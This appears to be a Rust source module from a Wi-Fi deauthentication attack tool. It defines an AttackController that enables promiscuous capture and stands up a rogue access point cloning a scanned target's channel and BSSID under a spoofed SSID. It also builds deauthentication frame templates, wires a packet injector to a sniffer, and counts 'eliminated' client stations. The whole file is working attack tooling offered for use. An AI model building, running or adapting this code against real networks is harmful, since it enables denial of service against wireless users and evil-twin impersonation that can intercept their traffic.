//! Attack session controller
//!
//! The `AttackController` owns the session state and drives the radio
//! through the `Idle -> Armed(mode) -> Idle` lifecycle:
//!
//! - `start` resets the session, sets up the radio role for the mode, builds
//!   a fresh receive handler and enables promiscuous capture
//! - `stop` disables promiscuous capture and nothing else
//! - `mode`, `eliminated_stations` and `stats` stay readable for reporting

use crate::injector::Injector;
use crate::session::Session;
use crate::sniffer::Sniffer;
use deauther_capture::CaptureStats;
use deauther_core::config::validate_ssid;
use deauther_core::{
    AccessPointInfo, AttackMode, DeautherConfig, Error, PromiscuousFilter, Radio, RadioMode,
    ReasonCode, Result,
};
use deauther_packet::DeauthFrame;
use parking_lot::Mutex;
use std::fmt;
use std::sync::Arc;
use tokio::time::sleep;
use tracing::{debug, info, warn};

/// Controller lifecycle state
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum ControllerState {
    #[default]
    Idle,
    Armed(AttackMode),
}

impl ControllerState {
    pub fn is_armed(&self) -> bool {
        matches!(self, ControllerState::Armed(_))
    }
}

impl fmt::Display for ControllerState {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ControllerState::Idle => write!(f, "idle"),
            ControllerState::Armed(mode) => write!(f, "armed ({})", mode),
        }
    }
}

#[derive(Debug, Default)]
struct ControllerInner {
    state: ControllerState,
    mode: AttackMode,
    reason: ReasonCode,
    target: Option<AccessPointInfo>,
}

/// Attack session controller
pub struct AttackController<R: Radio + ?Sized + 'static> {
    radio: Arc<R>,
    config: DeautherConfig,
    session: Arc<Session>,
    inner: Mutex<ControllerInner>,
}

impl<R: Radio + ?Sized + 'static> AttackController<R> {
    /// Create an idle controller
    pub fn new(radio: Arc<R>, config: DeautherConfig) -> Result<Self> {
        config.validate()?;
        info!(ap_ssid = %config.ap_ssid, "Creating attack controller");

        Ok(Self {
            radio,
            inner: Mutex::new(ControllerInner {
                reason: config.default_reason,
                ..ControllerInner::default()
            }),
            config,
            session: Arc::new(Session::new()),
        })
    }

    /// Bring up the idle access point
    pub fn bring_up(&self) -> Result<()> {
        self.radio.set_mode(RadioMode::AccessPoint)?;
        self.radio
            .start_soft_ap(&self.config.ap_ssid, &self.config.ap_passphrase, None)?;
        info!(ssid = %self.config.ap_ssid, "Access point up");
        Ok(())
    }

    /// Arm a capture/attack session
    ///
    /// In single-target mode `target_index` selects the scanned access point
    /// to impersonate and `spoof_ssid` is advertised on its channel. Broad
    /// mode ignores both and roams as a station. Starting while armed stops
    /// the current session first.
    pub async fn start(
        &self,
        target_index: usize,
        mode: AttackMode,
        reason: ReasonCode,
        spoof_ssid: &str,
    ) -> Result<()> {
        if self.state().is_armed() {
            warn!("Session already armed, restarting");
            self.stop()?;
        }

        let target = match mode {
            AttackMode::SingleTarget => {
                validate_ssid(spoof_ssid)?;
                Some(
                    self.radio
                        .access_point(target_index)
                        .ok_or(Error::TargetNotFound(target_index))?,
                )
            }
            AttackMode::Broad => None,
        };

        self.session.reset();
        let mut template = DeauthFrame::new(reason);

        match &target {
            Some(ap) => {
                self.radio.stop_soft_ap()?;
                sleep(self.config.ap_restart_delay).await;
                self.radio
                    .start_soft_ap(spoof_ssid, &self.config.ap_passphrase, Some(ap.channel))?;
                template = template.with_target(ap.bssid);
                debug!(access_point = %ap, ssid = %spoof_ssid, "Rogue access point up");
            }
            None => {
                self.radio.stop_soft_ap()?;
                self.radio.set_mode(RadioMode::Station)?;
            }
        }

        let injector = Injector::new(Arc::downgrade(&self.radio), self.config.frames_per_burst);
        let sniffer = Sniffer::new(self.session.clone(), mode, template, injector);

        self.radio.set_promiscuous_filter(PromiscuousFilter::MGMT_DATA)?;
        self.radio.set_rx_callback(sniffer.into_callback())?;
        self.radio.set_promiscuous(true)?;

        {
            let mut inner = self.inner.lock();
            inner.state = ControllerState::Armed(mode);
            inner.mode = mode;
            inner.reason = reason;
            inner.target = target;
        }

        info!(mode = %mode, reason = %reason, "Session armed");
        Ok(())
    }

    /// Disable promiscuous capture
    ///
    /// Counters, the rogue identity and the mode are left untouched. Calling
    /// this while idle has no further effect.
    pub fn stop(&self) -> Result<()> {
        self.radio.set_promiscuous(false)?;

        let mut inner = self.inner.lock();
        if inner.state.is_armed() {
            inner.state = ControllerState::Idle;
            info!(
                eliminated = self.session.eliminated_stations(),
                "Session stopped"
            );
        }
        Ok(())
    }

    pub fn state(&self) -> ControllerState {
        self.inner.lock().state
    }

    /// Mode of the current or most recent session
    pub fn mode(&self) -> AttackMode {
        self.inner.lock().mode
    }

    /// Reason code of the current or most recent session
    pub fn reason(&self) -> ReasonCode {
        self.inner.lock().reason
    }

    /// Access point targeted by the current or most recent single-target session
    pub fn target(&self) -> Option<AccessPointInfo> {
        self.inner.lock().target.clone()
    }

    pub fn eliminated_stations(&self) -> u32 {
        self.session.eliminated_stations()
    }

    pub fn beacon_captured(&self) -> bool {
        self.session.beacon_captured()
    }

    pub fn stats(&self) -> CaptureStats {
        self.session.stats()
    }

    /// Session state shared with the receive callback
    pub fn session(&self) -> &Arc<Session> {
        &self.session
    }

    pub fn radio(&self) -> &Arc<R> {
        &self.radio
    }

    pub fn config(&self) -> &DeautherConfig {
        &self.config
    }
}
